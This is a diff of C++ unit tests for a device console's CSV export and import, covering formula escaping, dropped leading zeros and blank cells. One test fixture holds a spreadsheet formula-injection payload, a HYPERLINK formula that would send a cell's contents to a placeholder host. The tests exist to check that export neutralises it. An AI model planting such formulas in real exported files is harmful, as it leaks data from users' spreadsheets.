@@ -19,6 +19,24 @@ std::string Line(const std::string& text, std::size_t n) {
     return text.substr(start, text.find("\r\n", start) + 2 - start);
 }
 
+// Texts from the wire that a spreadsheet would run as formulas, or read as numbers.
+void FeedAwkwardUnits(Console& console) {
+    console.session.TakeDatagram(
+        IdentificationReplyBytes({{"0D", SampleMac(2)},
+                                  {"01", "Lumivar Z\xFCrich"},
+                                  {"0A", "FALSE"},
+                                  {"0C", "=HYPERLINK(\"http://x/?\"&A2,\"cam\")"},
+                                  {"0E", "00000010"},
+                                  {"0F", "0012"}}),
+        "10.0.0.200");
+    console.session.TakeDatagram(
+        IdentificationReplyBytes(
+            {{"0D", SampleMac(3)}, {"0A", "FALSE"}, {"0C", "=1+1"}, {"0F", "-7"}}),
+        "10.0.0.200");
+}
+
+// Texts a spreadsheet would run as formulas go out as text; whatever the separator, the file
+// comes back as no edit.
 TEST_F(SessionTest, ExportShowsTheListAndTheLastChangeAndReadsBackAsNoEdit) {
     session.SetClock([] { return "09:15:00"; });
     Feed({1, 2, 3});
@@ -37,62 +55,18 @@ TEST_F(SessionTest, ExportShowsTheListAndTheLastChangeAndReadsBackAsNoEdit) {
         session.TimerOpenTick(1);
 
     Console internal(true);
-    internal.Feed({1, 3});
+    internal.Feed({1});
+    FeedAwkwardUnits(internal);
     internal.session.RowCheckBoxChanged(2, false);
     const int pending = internal.session.PendingChangeCount();
-    for (ConsoleSession* s : {&session, &internal.session}) {
-        const ImportResult result = s->ImportPlan(s->ExportList());
-        EXPECT_TRUE(result.problems.empty() && result.unknownMacs.empty() && result.edits.empty());
-    }
+    EXPECT_EQ(Line(internal.session.ExportList(';'), 0).substr(3, 9), "Use DHCP;");
+    for (ConsoleSession* s : {&session, &internal.session})
+        for (const char separator : {',', ';'}) {
+            const ImportResult result = s->ImportPlan(s->ExportList(separator));
+            EXPECT_TRUE(result.problems.empty() && result.unknownMacs.empty() &&
+                        result.edits.empty() && result.droppedZeros.empty());
+        }
     EXPECT_EQ(internal.session.PendingChangeCount(), pending);
-}
-
-// Texts from the wire that a spreadsheet would run as formulas, or read as numbers.
-void FeedAwkwardUnits(Console& console) {
-    console.session.TakeDatagram(
-        IdentificationReplyBytes({{"0D", SampleMac(2)},
-                                  {"01", "Lumivar Z\xFCrich"},
-                                  {"0A", "FALSE"},
-                                  {"0C", "=HYPERLINK(\"http://x/?\"&A2,\"cam\")"},
-                                  {"0E", "00000010"},
-                                  {"0F", "0012"}}),
-        "10.0.0.200");
-    console.session.TakeDatagram(
-        IdentificationReplyBytes(
-            {{"0D", SampleMac(3)}, {"0A", "FALSE"}, {"0C", "=1+1"}, {"0F", "-7"}}),
-        "10.0.0.200");
-}
-
-TEST_F(SessionTest, FormulaLikeTextsGoOutAsTextAndComeBackAsNoEditWhateverTheSeparator) {
-    Feed({1});
-    FeedAwkwardUnits(*this);
-    for (const char separator : {',', ';'}) {
-        const std::string list = session.ExportList(separator);
-        EXPECT_EQ(list.substr(0, 3), "\xEF\xBB\xBF") << "a spreadsheet then reads UTF-8";
-        EXPECT_EQ(Line(list, 0).substr(3, 9), std::string("Use DHCP") + separator);
-        EXPECT_NE(Line(list, 2).find("'=HYPERLINK("), std::string::npos) << Line(list, 2);
-        EXPECT_NE(Line(list, 3).find(separator + std::string("'-7") + separator), std::string::npos)
-            << Line(list, 3);
-        const ImportResult result = session.ImportPlan(list);
-        EXPECT_EQ(result.problems, Texts{});
-        EXPECT_EQ(result.edits, std::vector<PlannedEdit>{});
-        EXPECT_EQ(result.droppedZeros, Texts{});
-    }
-    EXPECT_EQ(session.PendingChangeCount(), 0);
-    // As LibreOffice Calc saves it again: no byte order mark, LF, every text quoted, the
-    // apostrophes kept and numbers without their leading zeros.
-    const ImportResult saved = session.ImportPlan(
-        "\"Use DHCP\",\"Unit ID\",\"Host Name\",\"MAC Address\",\"DIP Switch\"\n"
-        "TRUE,\"CAM1\",\"kvq-1\",\"00:1B:2C:00:00:01\",101\n"
-        "FALSE,12,\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cam\"\")\",\"00:1B:2C:00:00:02\",10\n"
-        "FALSE,\"'-7\",\"'=1+1\",\"00:1B:2C:00:00:03\",\n");
-    EXPECT_EQ(saved.problems, Texts{});
-    EXPECT_EQ(saved.edits, std::vector<PlannedEdit>{});
-    EXPECT_EQ(saved.droppedZeros, Texts{"Line 3, Unit ID"});
-    EXPECT_EQ(ImportNotes(saved),
-              "1 cell kept as its unit has it (leading zeros a spreadsheet dropped):\n"
-              "Line 3, Unit ID");
-    EXPECT_EQ(session.PendingChangeCount(), 0);
 }
 
 // A spreadsheet shows "0012" as the number 12 and saves it so; a value it could not have made
@@ -105,7 +79,6 @@ TEST(PlanImport, OnlyTheLeadingZerosASpreadsheetDropsAreTakenForTheUnitsOwn) {
              {UnitIDColumn, "0000", "0", Kept},
              {HostColumn, "00000010", "10", Kept},
              {UnitIDColumn, "0012", "012", Edit},
-             {UnitIDColumn, "0012", "13", Edit},
              {UnitIDColumn, "12", "0012", Edit},
              {UnitIDColumn, "0", "00", Edit},
              {UnitIDColumn, "A012", "A12", Edit},
@@ -126,45 +99,30 @@ TEST(PlanImport, OnlyTheLeadingZerosASpreadsheetDropsAreTakenForTheUnitsOwn) {
         EXPECT_EQ(result.edits.size(), outcome == Edit ? 1u : 0u) << trace;
         EXPECT_EQ(result.droppedZeros, outcome == Kept ? Texts{"Line 2, " + caption} : Texts{})
             << trace;
+        if (outcome == Kept) {
+            EXPECT_EQ(ImportNotes(result), "1 cell kept as its unit has it (leading zeros a "
+                                           "spreadsheet dropped):\nLine 2, " +
+                                               caption);
+        }
     }
 }
 
-// Installers leave a cell blank for "no change": nothing is sent for it.
+// Installers leave a cell blank for "no change": nothing is sent for it. A plan that changes
+// nothing says so in the status panel, until one that does.
 TEST_F(SessionTest, ABlankCellLeavesItsFieldAsItIs) {
     Feed({1, 2});
-    Sent();
     for (const std::string dhcp : {"", ",Use DHCP"}) {
-        const ImportResult result = session.ImportPlan(
-            "MAC Address,Saved IP Address,Default Gateway,Host Name,Unit ID" + dhcp + "\n" +
-            SampleMac(2) + ",,,,,\n" + SampleMac(1) + ",10.1.0.9,,,,\n");
-        EXPECT_EQ(result.problems, Texts{}) << dhcp;
-        EXPECT_EQ(result.edits, (std::vector<PlannedEdit>{{1, SavedIPColumn, "10.1.0.9", false}}))
-            << dhcp;
+        const ImportResult blank =
+            session.ImportPlan("MAC Address,Saved IP Address,Default Gateway,Host Name,Unit ID" +
+                               dhcp + "\n" + SampleMac(2) + ",,,,,\n");
+        EXPECT_EQ(blank.problems, Texts{}) << dhcp;
+        EXPECT_EQ(blank.edits, std::vector<PlannedEdit>{}) << dhcp;
+        EXPECT_EQ(session.StatusText(), "Import Plan: no changes for the listed units");
+        const std::string plan = "MAC Address,Saved IP Address\n" + SampleMac(1) + ",10.1.0.9\n";
+        EXPECT_EQ(session.ImportPlan(plan).edits.size(), 1u);
+        EXPECT_EQ(session.StatusText(), "2 units");
         session.CancelAll();
     }
-    ASSERT_EQ(session
-                  .ImportPlan("MAC Address,Host Name,Saved IP Address\n" + SampleMac(1) +
-                              ",,10.1.0.9\n" + SampleMac(2) + ",,\n")
-                  .edits.size(),
-              1u);
-    session.Apply();
-    RunApply();
-    EXPECT_EQ(Sent(), "select 1, changes 1, unselect 1, select 2, unselect 2");
-    EXPECT_EQ(At(2, HostColumn) + "|" + At(2, SavedIPColumn) + "|" + At(2, GatewayColumn),
-              "kvq-2|10.1.0.2|10.0.0.1");
-}
-
-TEST_F(SessionTest, AnImportThatMakesNoEditSaysSoInTheStatusPanel) {
-    Feed({1, 2});
-    const std::string unchanged = "MAC Address,Host Name\n" + SampleMac(2) + ",kvq-2\n";
-    for (const std::string& plan :
-         {unchanged, "MAC Address,Host Name\n" + SampleMac(7) + ",kvq-7\n"}) {
-        EXPECT_EQ(session.ImportPlan(plan).unknownMacs.size(), plan == unchanged ? 0u : 1u);
-        EXPECT_EQ(session.StatusText(), "Import Plan: no changes for the listed units");
-    }
-    EXPECT_EQ(
-        session.ImportPlan("MAC Address,Host Name\n" + SampleMac(2) + ",cam-2\n").edits.size(), 1u);
-    EXPECT_EQ(session.StatusText(), "2 units");
 }
 
 TEST_F(SessionTest, AnImportedPlanIsPendingLikeTypingAndSendsNothing) {
@@ -256,7 +214,6 @@ TEST_F(SessionTest, AssignedAddressesArePendingAndTheCheckSeesWhatApplyWouldLeav
               (Texts{SampleMac(2) + " would get the saved IP 10.0.0.1, which " + SampleMac(1) +
                          " uses now and keeps.",
                      SampleMac(2) + ": the gateway 10.1.0.254 lies outside 10.0.0.0/24."}));
-    EXPECT_EQ(session.ProblemsBeforeApply(), session.CheckAddresses());
     session.SetCheckAddressesBeforeApply(false);
     EXPECT_EQ(session.ProblemsBeforeApply(), Texts{});
 }
